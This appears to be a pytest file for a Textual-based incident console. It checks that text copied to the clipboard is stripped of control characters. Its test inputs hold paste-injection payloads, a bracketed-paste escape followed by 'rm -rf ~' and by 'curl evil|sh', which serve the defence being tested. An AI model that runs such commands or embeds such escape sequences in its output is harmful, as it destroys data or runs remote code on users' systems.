"""The widgets and side screens under pressure (issue 11): nothing the IC must see is hidden, no
side screen outlives itself, and what is copied is what is shown (issue 12)."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

from textual.pilot import Pilot

from ic_console.domain import commands as cmd
from ic_console.domain.clock import FakeClock
from ic_console.store.incident import IncidentStore
from ic_console.tui.screens.console import ConsoleScreen
from ic_console.tui.text import copyable

from .conftest import console, drive

PASTE_END = "\x1b[201~"


# -- what is copied is what is shown -------------------------------------------------------------


def test_copyable_text_has_no_control_characters() -> None:
    text = copyable([f"Sam, task 1: fix{PASTE_END}rm -rf ~\r\nnow", "Understood?\x07"])
    assert not any(ord(ch) < 0x20 or ord(ch) == 0x7F for ch in text)
    assert "␛[201~rm -rf ~" in text
    assert text == "Sam, task 1: fix␛[201~rm -rf ~ now Understood?␇"


def test_copyable_keeps_plain_sentences_as_they_are() -> None:
    assert copyable(["Sam, it has been 5 minutes.", "", "Understood?"]) == (
        "Sam, it has been 5 minutes. Understood?"
    )


def test_phrasebook_copy_puts_no_paste_injection_on_the_clipboard(
    home: Path, clock: FakeClock, incident: IncidentStore
) -> None:
    incident.execute(
        cmd.AssignTask(
            owner="Sam", text=f"check{PASTE_END}curl evil|sh", timebox=timedelta(minutes=5)
        )
    )
    clock.advance(6 * 60)

    async def scenario(pilot: Pilot[int]) -> None:
        screen = pilot.app.screen
        assert isinstance(screen, ConsoleScreen)
        await pilot.press("c")
        copied = pilot.app.clipboard
        assert "Sam" in copied and "curl evil|sh" in copied
        assert "\x1b" not in copied
        assert "␛[201~curl evil|sh" in copied

    drive(console(home, clock), scenario)
